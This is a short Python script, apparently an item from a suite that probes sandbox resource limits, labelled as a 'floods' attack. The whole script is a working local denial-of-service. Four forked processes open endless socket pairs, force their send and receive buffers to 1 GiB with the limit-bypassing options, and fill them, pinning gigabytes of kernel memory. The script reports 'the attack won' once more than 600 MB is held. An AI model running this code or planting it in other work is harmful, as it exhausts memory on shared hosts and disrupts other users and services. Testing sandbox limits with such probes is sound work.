"""family: floods
tries: gigabytes of the kernel's memory in enlarged socket buffers, filled by four processes
honest: all
"""

# %%
import os
import socket
import time

read, write = os.pipe()
load = bytes(1 << 16)
for _ in range(4):
    if os.fork() == 0:
        ends, sent = [], 0
        try:
            while True:
                ends += socket.socketpair()
                for option in (socket.SO_SNDBUF, socket.SO_RCVBUF, 32, 33):
                    ends[-1].setsockopt(socket.SOL_SOCKET, option, 1 << 30)
                ends[-1].setblocking(False)
                try:
                    while True:
                        sent += ends[-1].send(load)
                        if sent >> 20:
                            os.write(write, b"x" * (sent >> 20))
                            sent &= (1 << 20) - 1
                except BlockingIOError:
                    pass
        except OSError:
            time.sleep(60)
        finally:
            os._exit(0)
time.sleep(2.3)
os.write(write, b".")
held = len(os.read(read, 1 << 16))
if held > 600:
    print("the attack" " won", held, "MB")
